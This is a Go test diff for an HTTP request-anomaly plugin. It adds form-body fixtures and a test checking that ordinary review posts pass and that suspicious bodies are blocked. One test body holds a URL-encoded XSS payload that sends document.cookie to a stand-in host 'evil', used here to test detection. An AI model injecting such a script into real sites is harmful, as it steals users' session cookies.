@@ -38,7 +38,8 @@ func fixtureModel(t testing.TB) []byte {
 		id := strconv.Itoa(i * 7919 % 100000)
 		hs := fixtureHeaders(i)
 		tr.Observe(&models.Request{Method: "GET", Path: "/reviews/" + id, Query: "lang=" + langs[i%4], Headers: hs, Source: frontend, Destination: workload})
-		tr.Observe(&models.Request{Method: "POST", Path: "/reviews", Headers: hs, Source: frontend, Destination: workload})
+		form := append(append([]models.Header(nil), hs...), models.Header{Name: "content-type", Value: "application/x-www-form-urlencoded"})
+		tr.Observe(&models.Request{Method: "POST", Path: "/reviews", Headers: form, Body: []byte("stars=" + strconv.Itoa(1+i%5) + "&text=" + []string{"great+book", "not+bad", "loved+it", "too+long"}[i%4]), Source: frontend, Destination: workload})
 		tr.Observe(&models.Request{Method: "GET", Path: "/reviews/" + id, Headers: hs, Source: ratings, Destination: workload})
 		tr.Observe(&models.Request{Method: "GET", Path: "/healthz", Source: probeAddr, Destination: workload})
 	}
@@ -383,6 +384,31 @@ func TestInjectionInAKnownParameterIsFlagged(t *testing.T) {
 		}
 		if n := counter(t, host, MetricFlagged); n != 1 {
 			t.Errorf("flagged = %d, want 1", n)
+		}
+	})
+}
+
+func TestBodyIsJudgedOnceItArrives(t *testing.T) {
+	model := fixtureModel(t)
+	post := [][2]string{{":method", "POST"}, {":path", "/reviews"}, {"user-agent", "Go-http-client/1.1"}, {"accept", "application/json"}, {"content-type", "application/x-www-form-urlencoded"}}
+	forEachEnv(t, func(t *testing.T, e env) {
+		host := e.mustStart(t, hostOpts{config: config(t, pluginconfig.ModeEnforce, model), props: peer(frontend)})
+		onHeaders, onBody, id := requestWithBody(host, post, "stars=4&text=", "loved+it")
+		if onHeaders != types.ActionPause || onBody != types.ActionContinue || host.GetSentLocalResponse(id) != nil {
+			t.Errorf("ordinary form post: headers %v, body %v, local response %v", onHeaders, onBody, host.GetSentLocalResponse(id))
+		}
+		if got, _ := header(host.GetCurrentRequestHeaders(id), pluginconfig.DefaultScoreHeader); got == "" {
+			t.Error("no score header after the body")
+		}
+		_, onBody, id = requestWithBody(host, post, "stars=4&text=%3Cscript%3Edocument.location%3D%27//evil%27%2Bdocument.cookie%3C%2Fscript%3E")
+		if onBody != types.ActionPause || host.GetSentLocalResponse(id) == nil {
+			t.Errorf("script in the form body: body action %v, local response %v", onBody, host.GetSentLocalResponse(id))
+		}
+		// A long body is judged on its first MaxBodyPrefix bytes, not held to the end.
+		long := strings.Repeat("x", models.MaxBodyPrefix)
+		_, onBody, _ = requestWithBody(host, post, "stars=4&text="+long, "tail")
+		if onBody != types.ActionContinue {
+			t.Errorf("the chunk after the prefix got %v", onBody)
 		}
 	})
 }
